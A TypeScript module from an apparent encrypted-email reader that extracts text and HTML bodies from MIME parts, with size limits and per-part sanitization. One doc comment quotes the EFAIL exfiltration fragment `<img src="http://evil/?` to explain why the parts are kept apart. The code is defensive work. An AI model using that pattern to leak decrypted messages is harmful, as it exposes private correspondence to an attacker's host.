import { convert } from 'html-to-text';
import { type MimePart, isAttachment, partText, headerValue } from './mime-parse.ts';
import { withoutLegacyDisplayHtml, withoutLegacyDisplayText, hasLegacyDisplay } from './legacy-display.ts';

/** How the body is read. */
export interface BodyOptions {
  /**
   * Leave out RFC 9788 legacy display elements (section 4.5.3): set when the
   * report shows the protected header fields, which they only copy. When it
   * shows the outer ones, the copy is the only place the reader sees them.
   */
  hideLegacyDisplay?: boolean;
}

/**
 * A text part's text as shown: its legacy display element left out when
 * asked and the part is marked as carrying one (text/plain), or, for HTML,
 * whenever the element is there (section 4.5.3.3 names the element by its
 * class; the hp-legacy-display mark on the part is not required to find it).
 */
function shownPartText(part: MimePart, maxBytes: number, opts: BodyOptions): string {
  const text = partText(part, maxBytes);
  if (!opts.hideLegacyDisplay) return text;
  if (part.contentType === 'text/html') return withoutLegacyDisplayHtml(text);
  return hasLegacyDisplay(part.params) ? withoutLegacyDisplayText(text) : text;
}

/** HTML beyond this is not converted, nor handed to the reader (a hostile 50 MB page must not stall it). */
export const HTML_LIMIT = 4 * 1024 * 1024;

/** HTML as the plain text a reader would see (links kept as text, no images). */
export function htmlToText(html: string): string {
  return convert(html.length > HTML_LIMIT ? html.slice(0, HTML_LIMIT) : html, {
    wordwrap: false,
    selectors: [
      { selector: 'img', format: 'skip' },
      { selector: 'a', options: { ignoreHref: true } },
    ],
  });
}

/** The legacy display part of protected headers (Enigmail, "protected-headers=v1"): not body text. */
export function isLegacyHeaderPart(part: MimePart): boolean {
  return (
    part.contentType === 'text/rfc822-headers' ||
    (part.contentType === 'text/plain' &&
      (part.params['protected-headers'] ?? '').toLowerCase() === 'v1' &&
      /legacy-display/i.test(headerValue(part, 'content-type') ?? ''))
  );
}

/** A body beyond this is cut off in the report and the reader (a compressed bomb must not become a 64 MB string). */
export const TEXT_LIMIT = 2 * 1024 * 1024;

/**
 * The text of an entity as the reader shows it: the plain-text alternative
 * (or the HTML one as text), inline text parts in order, attachments and
 * signature or key parts left out.
 */
export function bodyText(part: MimePart, opts: BodyOptions = {}): string {
  if (part.contentType === 'multipart/alternative') {
    const plain = part.children.find((c) => c.contentType === 'text/plain');
    const chosen = plain ?? part.children.find((c) => c.contentType === 'text/html') ?? part.children[0];
    return chosen ? bodyText(chosen, opts) : '';
  }
  if (part.contentType.startsWith('multipart/')) {
    return shownChildren(part)
      .map((c) => bodyText(c, opts))
      .filter((t) => t !== '')
      .join('\n');
  }
  if (isAttachment(part)) return '';
  if (part.contentType === 'text/html') return htmlToText(shownPartText(part, TEXT_LIMIT * 2, opts));
  if (part.contentType.startsWith('text/')) return shownPartText(part, TEXT_LIMIT, opts);
  return '';
}

/** Parts of a multipart body that are not shown as its text (the same choice as `bodyText`). */
function shownChildren(part: MimePart): MimePart[] {
  return part.children.filter(
    (c) => !isAttachment(c) && !isLegacyHeaderPart(c) && !/^application\/pgp-(signature|keys|encrypted)$/.test(c.contentType),
  );
}

function escapeHtml(text: string): string {
  return text.replace(/[&<>"']/g, (c) => `&#${c.charCodeAt(0)};`);
}

/**
 * The HTML body of an entity, for the reader's sandboxed frame, unsanitized
 * (the renderer sanitizes it), as the list of parts shown one after the
 * other, or null when the entity has no HTML to show (the reader shows
 * `bodyText` then). It reads only what lies below the entity it is given,
 * the parts `bodyText` shows or their HTML alternatives: a caller that
 * passes only the protected entity gets nothing from outside it.
 *
 * - multipart/alternative: the last alternative that has HTML (RFC 2046,
 *   section 5.1.4: the alternatives come in increasing faithfulness);
 * - multipart/related: its root, the `start` part or the first (RFC 2387);
 * - any other multipart: the shown parts in order, text parts beside HTML
 *   ones as escaped preformatted text, so that nothing the text holds is lost;
 * - a text/html part that is not an attachment: its decoded text.
 *
 * The parts stay apart: each is sanitized on its own before they are joined
 * (renderer/src/lib/sanitize.ts), so that markup one part leaves open (an
 * unclosed `<img src="…`) cannot take in the next. That is EFAIL's direct
 * exfiltration (Poddebniak et al., USENIX Security 2018): part 1
 * `<img src="http://evil/?`, part 2 the decrypted text, part 3 `">`.
 */
export function bodyHtmlParts(part: MimePart, opts: BodyOptions = {}): string[] | null {
  if (part.contentType === 'multipart/alternative') {
    for (const child of [...part.children].reverse()) {
      const html = bodyHtmlParts(child, opts);
      if (html !== null) return html;
    }
    return null;
  }
  if (part.contentType === 'multipart/related') {
    const start = part.params.start?.trim();
    const root = (start ? part.children.find((c) => headerValue(c, 'content-id')?.trim() === start) : undefined) ?? part.children[0];
    return root ? bodyHtmlParts(root, opts) : null;
  }
  if (part.contentType.startsWith('multipart/')) {
    const shown = shownChildren(part);
    const html = shown.map((c) => bodyHtmlParts(c, opts));
    if (html.every((h) => h === null)) return null;
    return shown.flatMap((child, i) => {
      const own = html[i];
      if (own !== null && own !== undefined) return own;
      const text = bodyText(child, opts);
      return text === '' ? [] : [`<pre>${escapeHtml(text)}</pre>`];
    });
  }
  if (isAttachment(part) || part.contentType !== 'text/html') return null;
  // One byte beyond the limit, so that the caller sees the HTML was longer and says so.
  return [shownPartText(part, HTML_LIMIT + 1, opts)];
}

/** Where each part starts in the joined HTML (`joinHtmlParts`). */
export interface JoinedHtml {
  html: string;
  /** The offset of each part in `html`, in order (the first is 0). */
  starts: number[];
}

/** The parts as one string (one per line) and where each starts, for a reader that sanitizes them one by one. */
export function joinHtmlParts(parts: readonly string[]): JoinedHtml {
  const starts: number[] = [];
  let offset = 0;
  for (const p of parts) {
    starts.push(offset);
    offset += p.length + 1;
  }
  return { html: parts.join('\n'), starts };
}

/** The HTML body as one string (the parts joined; see bodyHtmlParts for why the reader keeps them apart). */
export function bodyHtml(part: MimePart, opts: BodyOptions = {}): string | null {
  const parts = bodyHtmlParts(part, opts);
  return parts === null ? null : parts.join('\n');
}
